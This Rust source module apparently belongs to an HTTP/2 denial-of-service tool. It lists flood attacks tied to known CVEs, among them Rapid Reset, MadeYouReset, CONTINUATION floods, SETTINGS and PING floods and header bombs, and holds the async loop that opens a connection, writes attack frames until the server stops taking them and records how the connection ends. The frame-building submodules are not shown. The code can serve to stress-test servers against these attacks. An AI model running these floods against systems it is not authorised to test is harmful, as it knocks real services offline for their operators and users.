//! What an attacker does on a connection of HTTP/2.

mod flood;
mod frame;

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::tcp::{OwnedReadHalf, OwnedWriteHalf},
    time::timeout,
};

use self::{flood::Flood, frame::Watch};
use super::{fate::Fate, wire::Mark};

/// What is heard of a connection that takes no more.
const LAST_WORDS: Duration = Duration::from_secs(1);

/// What is done.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Trick {
    /// Requests, each taken back at once (CVE-2023-44487).
    RapidReset,
    /// Requests of which the server has to take back its answer (CVE-2025-8671).
    MadeYouReset,
    /// A header block that does not end (CVE-2024-27316).
    Continuation,
    /// SETTINGS, each to be acknowledged (CVE-2019-9515).
    Settings,
    /// The same by one who reads no acknowledgement.
    SettingsUnread,
    /// PING, each to be answered (CVE-2019-9512).
    Ping,
    /// The same by one who reads no answer.
    PingUnread,
    /// Frames of a body with nothing in them (CVE-2019-9518).
    EmptyData,
    /// Windows, opened byte by byte.
    WindowUpdate,
    /// Priorities, changed again and again (CVE-2019-9513).
    Priority,
    /// One large header, named thousands of times in a byte each (CVE-2016-6581).
    HeaderBomb,
    /// As many requests as there may be, none of them finished.
    Unfinished,
    /// As many large responses as there may be, and no window for them (CVE-2019-9511 and -9517).
    ShutWindow,
}

impl Trick {
    /// Plays it on a connection of its own; returns when that has ended.
    pub(super) async fn play(self, mark: &Mark) -> Fate {
        let Ok(stream) = mark.connect(None).await else {
            return Fate::Unmade;
        };
        let (mut reads, writes) = stream.into_split();
        let mut watch = Watch::default();
        if !matches!(self, Self::SettingsUnread | Self::PingUnread) {
            return tokio::select! {
                fate = listen(&mut reads, &mut watch) => fate,
                // What still comes tells why no more is taken.
                () = shout(self, writes, mark) => Fate::Reset,
            };
        }
        let reads = &mut reads;
        shout_only(self, writes, mark).await;
        timeout(LAST_WORDS, listen(reads, &mut watch))
            .await
            .unwrap_or(Fate::Reset)
    }
}

/// Reads to the end, and tells how that came.
async fn listen(reads: &mut OwnedReadHalf, watch: &mut Watch) -> Fate {
    let mut piece = [0; 4096];
    let silent = loop {
        match reads.read(&mut piece).await {
            Ok(0) => break Fate::Closed,
            Ok(read) => watch.take(&piece[..read]),
            Err(_) => break Fate::Reset,
        }
    };
    watch.code.map_or(silent, Fate::GoAway)
}

async fn shout(trick: Trick, writes: OwnedWriteHalf, mark: &Mark) {
    shout_only(trick, writes, mark).await;
    tokio::time::sleep(LAST_WORDS).await;
}

/// Sends until nothing is taken any more.
async fn shout_only(trick: Trick, mut writes: OwnedWriteHalf, mark: &Mark) {
    let mut flood = Flood::new(trick);
    while let Some((bytes, count)) = flood.next() {
        if writes.write_all(bytes).await.is_err() {
            return;
        }
        mark.tally.count(count);
    }
    // All is said, and nothing taken back.
    std::future::pending().await
}
